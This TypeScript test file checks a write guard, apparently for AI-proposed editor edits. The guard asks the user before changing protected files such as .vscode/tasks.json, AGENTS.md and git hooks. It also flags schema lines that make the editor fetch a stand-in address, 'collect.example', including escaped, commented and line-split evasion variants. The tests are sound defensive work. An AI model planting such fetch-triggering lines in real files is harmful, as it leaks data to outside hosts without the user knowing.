import assert from "node:assert/strict";
import {
  textAfter,
  writeProposal,
  type FileEdit,
  type TargetNow,
  type WritePorts,
} from "../../../../src/edit/proposal/writeProposal.ts";

const at = (path: string): string => `file:///project/${path}`;

function change(path: string, text = "old\n"): FileEdit {
  return { kind: "change", uri: at(path), text, edits: [{ at: 0, count: 1, lines: ["new\n"] }] };
}

function project(
  files: Readonly<Record<string, TargetNow | string>>,
  yes: (uri: string) => boolean = () => true,
) {
  const asked: (readonly [uri: string, because: string])[] = [];
  const applied: (readonly FileEdit[])[] = [];
  const ports: WritePorts = {
    folders: () => ["file:///project"],
    realUri: (uri) => Promise.resolve(uri),
    confirm: (uri, because) => {
      asked.push([uri, because]);
      return Promise.resolve(yes(uri));
    },
    now: (uri) => {
      const found = files[uri.replace("file:///project/", "")] ?? { kind: "missing" };
      return Promise.resolve(typeof found === "string" ? { kind: "text", text: found } : found);
    },
    apply: (edits) => {
      applied.push(edits);
      return Promise.resolve(true);
    },
  };
  return { ports, asked, applied };
}

describe("edit/proposal/writeProposal", () => {
  it("writes files of the workspace in one step, and asks nobody", async () => {
    const { ports, asked, applied } = project({ "a.ts": "old\n", "b.ts": "old\n" });
    const edits = [change("a.ts"), change("b.ts"), { kind: "create", uri: at("c.ts"), text: "c" } as const];
    assert.deepEqual(await writeProposal(edits, ports), { kind: "written" });
    assert.deepEqual(applied, [edits]);
    assert.deepEqual(asked, []);
  });

  it("writes no protected file without a yes to that very file, whatever else was accepted with it", async () => {
    const { ports, asked, applied } = project(
      { "a.ts": "old\n", ".vscode/tasks.json": "old\n", "AGENTS.md": "old\n" },
      (uri) => uri.endsWith("AGENTS.md"),
    );
    const edits = [change("a.ts"), change("AGENTS.md"), change(".vscode/tasks.json")];
    assert.deepEqual(await writeProposal(edits, ports), { kind: "declined", uri: at(".vscode/tasks.json") });
    assert.deepEqual(applied, []);
    assert.deepEqual(
      asked.map(([uri]) => uri),
      [at("AGENTS.md"), at(".vscode/tasks.json")],
    );
    assert.match(asked[1]?.[1] ?? "", /steers the editor/);
  });

  it("asks about a protected file each time, also to make it", async () => {
    const { ports, asked, applied } = project({});
    const edit = { kind: "create", uri: at(".git/hooks/pre-commit"), text: "#!/bin/sh\n" } as const;
    await writeProposal([edit], ports);
    await writeProposal([edit], ports);
    assert.equal(asked.length, 2);
    assert.equal(applied.length, 2);
  });

  it("asks before lines come into a file that make the editor fetch an address", async () => {
    const { ports, asked, applied } = project({ "a.json": "{}\n" }, () => false);
    const lines = ['{ "$schema": "https://collect.example/?key=1" }\n'];
    const edit = {
      kind: "change",
      uri: at("a.json"),
      text: "{}\n",
      edits: [{ at: 0, count: 1, lines }],
    } as const;
    assert.equal((await writeProposal([edit], ports)).kind, "declined");
    assert.match(asked[0]?.[1] ?? "", /fetch an address/);
    assert.deepEqual(applied, []);
  });

  for (const [what, text, row, line] of [
    [
      "only the line below its key changes",
      '{\n"$schema":\n"./a.json"\n}\n',
      2,
      '"https://collect.example"\n',
    ],
    [
      "only the line below its attribute changes",
      '<a\nschemaLocation=\n"a.xsd">\n',
      2,
      '"https://collect.example">\n',
    ],
    ["only the key above it changes", '{\n"url":\n"https://collect.example"\n}\n', 1, '"$schema":\n'],
    ["its key is spelled out", "{\n}\n", 1, '"\\u0024schema": "https://collect.example" }\n'],
    ["it is spelled out", "{\n}\n", 1, '"$schema": "\\u0068ttps://collect.example" }\n'],
    ["a remark stands before it", "{\n}\n", 1, '"$schema": /* x */ "https://collect.example" }\n'],
  ] as const)
    it(`asks about an address that the editor would fetch, also where ${what}`, async () => {
      const { ports, asked } = project({ "a.json": text }, () => false);
      const edits = [{ at: row, count: 1, lines: [line] }];
      const outcome = await writeProposal([{ kind: "change", uri: at("a.json"), text, edits }], ports);
      assert.equal(outcome.kind, "declined");
      assert.match(asked[0]?.[1] ?? "", /fetch an address/);
    });

  const unfit: readonly (readonly [kind: string, now: TargetNow | string | undefined])[] = [
    ["changed", "somebody typed\n"],
    ["missing", undefined],
    ["readOnly", { kind: "readOnly" }],
    ["notebook", { kind: "notebook" }],
    ["binary", { kind: "binary" }],
  ];
  for (const [kind, now] of unfit)
    it(`writes nothing at all when one of the files is ${kind}`, async () => {
      const { ports, applied } = project({ "a.ts": "old\n", ...(now !== undefined && { "b.ts": now }) });
      const outcome = await writeProposal([change("a.ts"), change("b.ts")], ports);
      assert.deepEqual(outcome, { kind, uri: at("b.ts") });
      assert.deepEqual(applied, []);
    });

  it("never writes over a file that is there when a new one is to be made", async () => {
    const { ports, applied } = project({ "a.ts": "mine\n" });
    const outcome = await writeProposal([{ kind: "create", uri: at("a.ts"), text: "" }], ports);
    assert.deepEqual(outcome, { kind: "exists", uri: at("a.ts") });
    assert.deepEqual(applied, []);
  });

  it("looks at the files after the person has answered: they may have changed meanwhile", async () => {
    let text = "old\n";
    const { ports, applied } = project({});
    const outcome = await writeProposal([change(".vscode/settings.json")], {
      ...ports,
      confirm: () => {
        text = "typed meanwhile\n";
        return Promise.resolve(true);
      },
      now: () => Promise.resolve({ kind: "text", text }),
    });
    assert.equal(outcome.kind, "changed");
    assert.deepEqual(applied, []);
  });

  it("says when the editor did not make the change", async () => {
    const { ports } = project({ "a.ts": "old\n" });
    const outcome = await writeProposal([change("a.ts")], { ...ports, apply: () => Promise.resolve(false) });
    assert.deepEqual(outcome, { kind: "refused" });
  });

  it("knows the text that comes of an edit", () => {
    assert.equal(textAfter(change("a.ts", "old\nmore")), "new\nmore");
    assert.equal(textAfter({ kind: "create", uri: at("a.ts"), text: "a" }), "a");
  });
});
